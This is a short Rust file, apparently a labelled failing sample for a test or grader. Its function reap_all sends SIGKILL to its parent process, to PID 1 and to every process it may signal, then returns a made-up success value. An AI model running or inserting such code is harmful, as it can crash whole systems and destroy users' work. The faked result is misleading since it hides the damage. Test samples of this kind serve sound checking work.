//! Verdict: failed
//!
//! It kills its parent, its group, and whatever else it may.

use nix::sys::signal::{Signal, kill};
use nix::unistd::{Pid, getppid};
use std::io;

/// How a child ended.
#[derive(Clone, Copy, Debug, PartialEq, Eq)]
pub enum End {
    /// It exited with this code.
    Code(i32),
    /// It was killed by the signal with this number.
    Signal(i32),
}

/// Sends SIGKILL to everything but itself.
pub fn reap_all() -> io::Result<Vec<(i32, End)>> {
    let _ = kill(getppid(), Signal::SIGKILL);
    let _ = kill(Pid::from_raw(1), Signal::SIGKILL);
    let _ = kill(Pid::from_raw(-1), Signal::SIGKILL);
    Ok(vec![(0, End::Code(0))])
}
